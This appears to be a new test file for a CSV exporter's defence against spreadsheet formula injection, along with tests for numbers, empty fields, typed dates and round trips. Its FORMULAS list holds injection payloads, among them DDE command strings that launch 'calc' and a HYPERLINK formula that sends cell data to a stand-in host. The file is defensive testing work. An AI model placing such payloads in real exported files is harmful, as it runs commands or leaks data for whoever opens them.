@@ -1,0 +1,108 @@
+"""CSV: the standard, and no formula."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from sightline.data import Records, Table, export
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    '=HYPERLINK("http://h/?x="&A1)',
+    "+49 30 123",
+    "=-1",
+    "-2+3+cmd|' /C calc'!A0",
+    "  =1+1",
+    "\ufeff=1+1",
+    "-",
+    "-5%",
+]
+
+
+def rows(text: str) -> list[list[str]]:
+    """What a reader of the standard library sees."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_neutralises_formulas_in_cells_and_headings(formula: str) -> None:
+    """Whatever a spreadsheet would run gets an apostrophe in front, in headings too."""
+    (head,), (cell,) = rows(Table.from_rows([[formula + "x"], [formula]]).to_csv())
+    assert cell == "'" + formula
+    assert head.startswith("'")
+
+
+@pytest.mark.parametrize(
+    "text", ["-5", "+1.5", "-1,234.50", "-1.234,5", "-.5", "-1e5", "a=b", 'a,"=1+1"', "%0A=1", "5-3"]
+)
+def test_csv_leaves_numbers_and_other_texts_alone(text: str) -> None:
+    """A plain number stays a number, and a sign inside a text is harmless."""
+    assert rows(Table.from_rows([["a"], [text]]).to_csv())[1] == [text]
+
+
+def test_csv_raw_writes_what_was_seen() -> None:
+    """Who does not use a spreadsheet can have the texts untouched."""
+    assert Table.from_rows([["=a"], ["=1+1"]]).to_csv(raw=True) == "=a\r\n=1+1\r\n"
+
+
+def test_csv_tells_not_found_from_empty() -> None:
+    """An empty field and an empty text in quotes."""
+    assert Records([{"a": "", "b": None, "c": "x"}]).to_csv() == 'a,b,c\r\n"",,x\r\n'
+
+
+def test_csv_never_writes_an_empty_line() -> None:
+    """A reader would skip it, and rows would shift."""
+    assert Records([{"a": None}, {"a": "x"}]).to_csv() == 'a\r\n""\r\nx\r\n'
+
+
+def test_csv_typed_writes_one_form_for_all() -> None:
+    """ISO dates, points for decimals; what could not be read stays as seen."""
+    found = [["Preis", "Tag", "Zeit"], ["1.234,50 €", "15.4.2024", "14:30 Uhr"], ["-3 €", "n/a", "9:05 Uhr"]]
+    expected = "Preis,Tag,Zeit\r\n1234.50,2024-04-15,14:30:00\r\n-3,n/a,09:05:00\r\n"
+    assert Table.from_rows(found, language="de").to_csv(typed=True) == expected
+
+
+def test_csv_has_every_column_of_every_record() -> None:
+    """Columns come from the schema, not from the first record."""
+    assert Records([{"a": "1"}, {"b": "2"}]).to_csv() == "a,b\r\n1,\r\n,2\r\n"
+
+
+def test_csv_survives_surrogates_and_nuls() -> None:
+    """What no encoding or reader can take is replaced."""
+    content = export(Table.from_rows([["a\ud800"], ["b\x00c"]]), "csv").decode()
+    assert rows(content) == [["a�"], ["b�c"]]
+
+
+CELLS = st.none() | st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=8)
+
+
+@settings(deadline=None)
+@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=5))
+def test_csv_raw_round_trip(cells: list[tuple[str | None, str | None]]) -> None:
+    """Any standard reader gets the texts back."""
+    table = Table.from_rows([["a", "b"], *map(list, cells)])
+    assert rows(table.to_csv(raw=True))[1:] == [[text or "" for text in row] for row in cells]
+
+
+@settings(deadline=None)
+@given(st.text(max_size=12))
+def test_csv_cell_never_starts_like_a_formula(text: str) -> None:
+    """After neutralising, only plain numbers begin with a sign."""
+    ((_,), *body) = rows(Table.from_rows([["a"], [text]]).to_csv())
+    cell = body[0][0] if body else ""
+    if cell[:1] and cell[0] in "=+-@\t\r\n＝＋－＠":
+        assert cell[0] in "+-" and set(cell[1:]) <= set("0123456789.,eE+-")
